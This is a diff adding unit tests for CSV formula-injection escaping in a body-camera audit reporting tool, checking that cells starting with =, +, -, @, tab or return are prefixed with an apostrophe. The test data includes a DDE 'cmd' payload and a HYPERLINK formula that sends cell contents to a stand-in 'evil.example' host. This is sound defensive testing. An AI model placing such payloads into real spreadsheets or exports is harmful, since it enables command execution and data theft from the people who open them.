@@ -17,7 +17,14 @@ from bwc.audit.engine import AuditResult, run_audit
 from bwc.audit.html import render_html
 from bwc.audit.metrics import kth_smallest, p95
 from bwc.audit.model import Case, Clip, Officer, Period, Rules, to_ms
-from bwc.audit.report import OFFICER_COLUMNS, build_report, table_rows, to_csv, to_json
+from bwc.audit.report import (
+    OFFICER_COLUMNS,
+    build_report,
+    spreadsheet_safe,
+    table_rows,
+    to_csv,
+    to_json,
+)
 from bwc.errors import HomeError
 
 pytestmark = pytest.mark.unit
@@ -177,3 +184,49 @@ def test_rules_from_config() -> None:
         rules_from({"max_gap_s": -1, "grace": 3, "end_grace_s": True})
     msg = str(e.value)
     assert "audit.max_gap_s" in msg and "audit.grace: unknown" in msg and "end_grace_s" in msg
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("-3", "-3"),
+        ("+0.5", "+0.5"),
+        ("0.5", "0.5"),
+        ("-1e3", "-1e3"),
+        ("张三", "张三"),
+        ("", ""),
+        ("a=b", "a=b"),
+    ],
+)
+def test_spreadsheet_safe(cell: str, written: str) -> None:
+    assert spreadsheet_safe(cell) == written
+
+
+def test_csv_cells_never_run_as_formulas() -> None:
+    """Regression (issue 12): a name, unit or county starting with = reached the CSV as is."""
+    s = t("2026-10-15T09:30:00")
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    result = run_audit(
+        Period(2026, 10, "Asia/Shanghai"),
+        Rules(),
+        officers=[Officer("@1", evil, "+unit", "-county", True)],
+        cases=[Case("C1", "x", "+unit", s, s + 10 * 60_000, "", ("@1",))],
+        clips=[],
+        assignments=[],
+        clocks=[],
+        explanations=set(),
+    )
+    rep = build_report(result)
+    for by in ("officer", "unit", "county"):
+        for row in csv.reader(io.StringIO(to_csv(rep, by))):
+            for cell in row:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (by, row)
+    rows = list(csv.reader(io.StringIO(to_csv(rep))))
+    assert rows[1][:4] == ["'@1", "'" + evil, "'+unit", "'-county"]
+    assert rows[1][4] == "1"  # numbers stay numbers
